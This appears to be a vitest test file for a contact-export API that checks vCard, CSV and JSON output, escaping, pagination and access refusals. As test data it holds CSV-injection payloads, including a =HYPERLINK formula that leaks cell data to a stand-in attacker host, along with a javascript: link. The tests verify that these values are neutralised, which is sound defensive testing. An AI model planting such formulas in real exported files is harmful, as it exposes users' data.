import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { signInAgain, signedInUser, type SignedInUser } from '../../../../tests/factories';
import { as, createTestApp, type TestApp } from '../../../../tests/setup/test-app';
import { createContactBody, type ContactDto } from '../../../shared/contracts/contacts';
import type { ExportedContact } from '../../../shared/contracts/network-tools';
import { toNewContactRow } from './contact-mapping';
import { insertContacts } from './contacts.repo';
import { CSV_COLUMNS } from './export-csv';

let t: TestApp;
let priya: SignedInUser;
let bob: SignedInUser;
let advisor: SignedInUser;
const ids: Record<string, string> = {};

async function createContact(user: SignedInUser, body: Record<string, unknown>): Promise<ContactDto> {
  const response = await as(t.app, user.cookie)({ method: 'POST', url: '/api/v1/contacts', payload: body });
  expect(response.statusCode, response.body).toBe(201);
  return response.json().contact as ContactDto;
}

/** A contact written straight to the table, as an import may leave it (values the API form would refuse). */
async function insertRaw(ownerId: string, fields: Record<string, unknown>): Promise<string> {
  const base = createContactBody.parse({ firstName: 'Raw' });
  const [row] = await insertContacts(t.database.db, ownerId, [toNewContactRow({ ...base, ...fields }, t.clock.now())]);
  if (!row) throw new Error('insert returned no row');
  return row.id;
}

const NOTES = 'She said "call me Thursday", then: budget, timeline; next steps\r\nSecond line\\with a backslash\nThird line — café';
const INJECTIONS = {
  title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  organization: '+1',
  field: '-2+3',
  location: '@SUM(A1:A9)',
};

beforeAll(async () => {
  t = await createTestApp();
  priya = await signedInUser(t.app, { name: 'Priya' });
  bob = await signedInUser(t.app, { name: 'Bob' });
  advisor = await signedInUser(t.app, { role: 'advisor' });

  const zoe = await createContact(priya, {
    firstName: 'Zoë',
    lastName: "O'Neil, Jr; III",
    circle: 'professional',
    organization: 'Société Générale; Paris, France',
    title: 'Analyst \\ Quant',
    emails: ['zoe@example.com', 'zoe.oneil@example.org'],
    phones: ['+1 555 0100', '(555) 0101'],
    linkedinUrl: 'https://www.linkedin.com/in/zoe-oneil',
    links: ['https://zoe.example.com/a,b;c'],
    tags: ['finance', 'paris, fr'],
    notes: NOTES,
  });
  ids.zoe = zoe.id;
  const marcus = await createContact(priya, { firstName: 'Marcus', lastName: 'Lee', circle: 'community', ...INJECTIONS, referredById: zoe.id });
  ids.marcus = marcus.id;
  const gone = await createContact(priya, { firstName: 'Deleted', lastName: 'Person' });
  ids.gone = gone.id;
  expect((await as(t.app, priya.cookie)({ method: 'DELETE', url: `/api/v1/contacts/${gone.id}` })).statusCode).toBe(204);
  ids.raw = await insertRaw(priya.id, {
    firstName: 'Ann\nMarie',
    lastName: 'Van; Der, Berg',
    links: ['javascript:alert(1)', 'https://ok.example'],
    notes: 'x'.repeat(200),
  });

  const asPriya = as(t.app, priya.cookie);
  for (const kind of ['meeting', 'email']) {
    const r = await asPriya({ method: 'POST', url: `/api/v1/contacts/${zoe.id}/interactions`, payload: { kind, occurredAt: t.clock.now().toISOString(), summary: `${kind} with Zoë` } });
    expect(r.statusCode, r.body).toBe(201);
  }
  const entry = await asPriya({ method: 'POST', url: `/api/v1/contacts/${zoe.id}/ledger`, payload: { direction: 'give', description: 'Sent the article on rates' } });
  expect(entry.statusCode, entry.body).toBe(201);

  ids.bobs = (await createContact(bob, { firstName: 'Bobs', lastName: 'Secret', emails: ['secret@example.com'] })).id;
});
afterAll(async () => {
  await t.close();
});
beforeEach(async () => {
  priya = await signInAgain(t.app, priya);
  bob = await signInAgain(t.app, bob);
  advisor = await signInAgain(t.app, advisor);
});

const exportAs = (user: SignedInUser | undefined, format: string) =>
  as(t.app, user?.cookie)({ method: 'GET', url: `/api/v1/exports/contacts?format=${format}` });

/** The cards of a .vcf file, parsed by ical.js (one card parses to a jCard, several to a list of them). */
function parseVcards(text: string): InstanceType<typeof ICAL.Component>[] {
  if (text.trim() === '') return [];
  const parsed: unknown = ICAL.parse(text);
  const list = Array.isArray(parsed) && parsed[0] === 'vcard' ? [parsed] : (parsed as unknown[]);
  return list.map((jcard) => new ICAL.Component(jcard as unknown[]));
}

describe('GET /api/v1/exports/contacts?format=vcard', () => {
  it('downloads vCard 4.0 of exactly my live contacts that a vCard parser reads back intact', async () => {
    const response = await exportAs(priya, 'vcard');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/vcard; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="rapport-contacts-\d{4}-\d{2}-\d{2}\.vcf"$/);
    expect(response.headers['content-disposition']).toContain(t.clock.now().toISOString().slice(0, 10));
    expect(response.headers['cache-control']).toBe('no-store');

    const cards = parseVcards(response.body);
    const uids = cards.map((card) => String(card.getFirstPropertyValue('uid')));
    expect(new Set(uids)).toEqual(new Set([ids.zoe, ids.marcus, ids.raw].map((id) => `urn:uuid:${id}`)));
    expect(response.body).not.toContain('Bobs');
    expect(response.body).not.toContain('Deleted');

    const card = (uid: string | undefined) => {
      const found = cards.find((c) => c.getFirstPropertyValue('uid') === `urn:uuid:${uid}`);
      if (!found) throw new Error(`no card for ${uid}`);
      return found;
    };
    const zoe = card(ids.zoe);
    expect(zoe.getFirstPropertyValue('version')).toBe('4.0');
    expect(zoe.getFirstPropertyValue('fn')).toBe("Zoë O'Neil, Jr; III");
    expect(zoe.getFirstProperty('n')?.getValues()).toEqual([["O'Neil, Jr; III", 'Zoë', '', '', '']]);
    // ORG is a compound property: its semicolon must be escaped to stay inside the one field.
    expect(zoe.getFirstProperty('org')?.getValues().flat()).toEqual(['Société Générale; Paris, France']);
    expect(response.body).toContain('ORG:Société Générale\\; Paris\\, France\r\n');
    expect(zoe.getFirstPropertyValue('title')).toBe('Analyst \\ Quant');
    expect(zoe.getAllProperties('email').map((p) => p.getFirstValue())).toEqual(['zoe@example.com', 'zoe.oneil@example.org']);
    expect(zoe.getAllProperties('email')[0]?.getParameter('pref')).toBe('1');
    expect(zoe.getAllProperties('tel').map((p) => p.getFirstValue())).toEqual(['+1 555 0100', '(555) 0101']);
    expect(zoe.getAllProperties('url').map((p) => p.getFirstValue())).toEqual(['https://www.linkedin.com/in/zoe-oneil', 'https://zoe.example.com/a,b;c']);
    expect(zoe.getFirstPropertyValue('note')).toBe(NOTES.replace(/\r\n/g, '\n'));
    expect(zoe.getFirstProperty('categories')?.getValues()).toEqual(['finance', 'paris, fr']);
    expect(zoe.getFirstPropertyValue('x-rapport-circle')).toBe('professional');

    const raw = card(ids.raw);
    expect(raw.getFirstPropertyValue('fn')).toBe('Ann\nMarie Van; Der, Berg');
    expect(raw.getFirstProperty('n')?.getValues()).toEqual([['Van; Der, Berg', 'Ann\nMarie', '', '', '']]);
    // url-schemes (ASVS 1.2.2): only http(s) links are written.
    expect(raw.getAllProperties('url').map((p) => p.getFirstValue())).toEqual(['https://ok.example']);
    expect(response.body).not.toContain('javascript:');
  });

  it('writes CRLF lines folded at 75 octets of UTF-8, never inside a character', async () => {
    const response = await exportAs(priya, 'vcard');
    const body = response.rawPayload;
    expect(body.includes(Buffer.from('\r\n '))).toBe(true);
    const text = body.toString('utf8');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    for (const line of text.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    expect(text.startsWith('BEGIN:VCARD\r\nVERSION:4.0\r\n')).toBe(true);
    expect(text.endsWith('END:VCARD\r\n')).toBe(true);
  });
});

describe('GET /api/v1/exports/contacts?format=csv', () => {
  it('csv-injection (ASVS 1.2.10): =HYPERLINK, +1, -2+3 and @SUM cells are neutralised; RFC 4180 round-trip of quotes, commas and newlines', async () => {
    const response = await exportAs(priya, 'csv');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="rapport-contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    // The UTF-8 byte order mark, for Excel.
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const records = parseCsv(response.rawPayload, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    const header = parseCsv(response.rawPayload, { bom: true, to_line: 1 }) as string[][];
    expect(header[0]).toEqual([...CSV_COLUMNS]);
    expect(new Set(records.map((r) => r.id))).toEqual(new Set([ids.zoe, ids.marcus, ids.raw]));
    expect(response.body).not.toContain('Bobs');

    const marcus = records.find((r) => r.id === ids.marcus);
    expect(marcus).toMatchObject({
      title: `'${INJECTIONS.title}`,
      organization: `'${INJECTIONS.organization}`,
      field: `'${INJECTIONS.field}`,
      location: `'${INJECTIONS.location}`,
      referredBy: "Zoë O'Neil, Jr; III",
      referredById: ids.zoe,
      circle: 'community',
    });
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const zoe = records.find((r) => r.id === ids.zoe);
    expect(zoe).toMatchObject({
      firstName: 'Zoë',
      lastName: "O'Neil, Jr; III",
      organization: 'Société Générale; Paris, France',
      notes: NOTES,
      emails: 'zoe@example.com; zoe.oneil@example.org',
      phones: "'+1 555 0100; (555) 0101",
      tags: 'finance; paris, fr',
      gives: '1',
      asks: '0',
    });
    expect(records.find((r) => r.id === ids.raw)?.firstName).toBe('Ann\nMarie');
    // Records end with CRLF; the quoted notes keep their own line breaks.
    expect(response.body.endsWith('\r\n')).toBe(true);
    expect(response.body).toContain(`"${NOTES.replace(/"/g, '""')}"`);
  });
});

describe('GET /api/v1/exports/contacts?format=json', () => {
  it('exports every field of exactly my live contacts with their interactions and ledger', async () => {
    const response = await exportAs(priya, 'json');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="rapport-contacts-\d{4}-\d{2}-\d{2}\.json"$/);
    const doc = response.json() as { exportedAt: string; contacts: ExportedContact[] };
    expect(doc.exportedAt).toBe(t.clock.now().toISOString());
    expect(new Set(doc.contacts.map((c) => c.id))).toEqual(new Set([ids.zoe, ids.marcus, ids.raw]));
    expect(response.body).not.toContain('Bobs');

    const zoe = doc.contacts.find((c) => c.id === ids.zoe);
    const api = await as(t.app, priya.cookie)({ method: 'GET', url: `/api/v1/contacts/${ids.zoe}` });
    const { interactions, ledger, ...dto } = zoe ?? { interactions: [], ledger: [] };
    expect(dto).toEqual(api.json().contact);
    expect(interactions.map((i) => i.kind).sort()).toEqual(['email', 'meeting']);
    expect(interactions.every((i) => i.contactId === ids.zoe && i.summary.endsWith('with Zoë'))).toBe(true);
    expect(ledger).toEqual([expect.objectContaining({ direction: 'give', description: 'Sent the article on rates', contactId: ids.zoe })]);
    expect(doc.contacts.find((c) => c.id === ids.marcus)).toMatchObject({ interactions: [], ledger: [], title: INJECTIONS.title });
  });

  it('pages through a large network: every contact once, in name order, in each format', async () => {
    const big = await signedInUser(t.app, { name: 'Big' });
    const n = 1_234;
    const base = createContactBody.parse({ firstName: 'x' });
    const rows = Array.from({ length: n }, (_, i) => toNewContactRow({ ...base, firstName: `Person${String(i).padStart(4, '0')}`, lastName: 'Bulk' }, t.clock.now()));
    await insertContacts(t.database.db, big.id, rows);
    const json = (await exportAs(big, 'json')).json() as { contacts: ExportedContact[] };
    expect(json.contacts.map((c) => c.firstName)).toEqual(rows.map((r) => r.firstName));
    const csv = parseCsv((await exportAs(big, 'csv')).rawPayload, { bom: true, columns: true }) as Record<string, string>[];
    expect(csv).toHaveLength(n);
    expect(parseVcards((await exportAs(big, 'vcard')).body)).toHaveLength(n);
  });

  it('an empty network exports an empty file in each format', async () => {
    const empty = await signedInUser(t.app, { name: 'Empty' });
    expect((await exportAs(empty, 'json')).json()).toEqual({ exportedAt: t.clock.now().toISOString(), contacts: [] });
    expect((await exportAs(empty, 'vcard')).body).toBe('');
    const csv = await exportAs(empty, 'csv');
    expect(csv.body).toBe(`\ufeff${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('GET /api/v1/exports/contacts: refusals', () => {
  it('400 for an unknown or missing format; 401 without a session; 403 for an advisor', async () => {
    for (const url of ['/api/v1/exports/contacts?format=xml', '/api/v1/exports/contacts', '/api/v1/exports/contacts?format=VCARD']) {
      const response = await as(t.app, priya.cookie)({ method: 'GET', url });
      expect(response.statusCode, url).toBe(400);
      expect(response.json().error.code).toBe('VALIDATION_FAILED');
    }
    expect((await exportAs(undefined, 'json')).statusCode).toBe(401);
    const forbidden = await exportAs(advisor, 'json');
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().error.code).toBe('FORBIDDEN');
  });
});
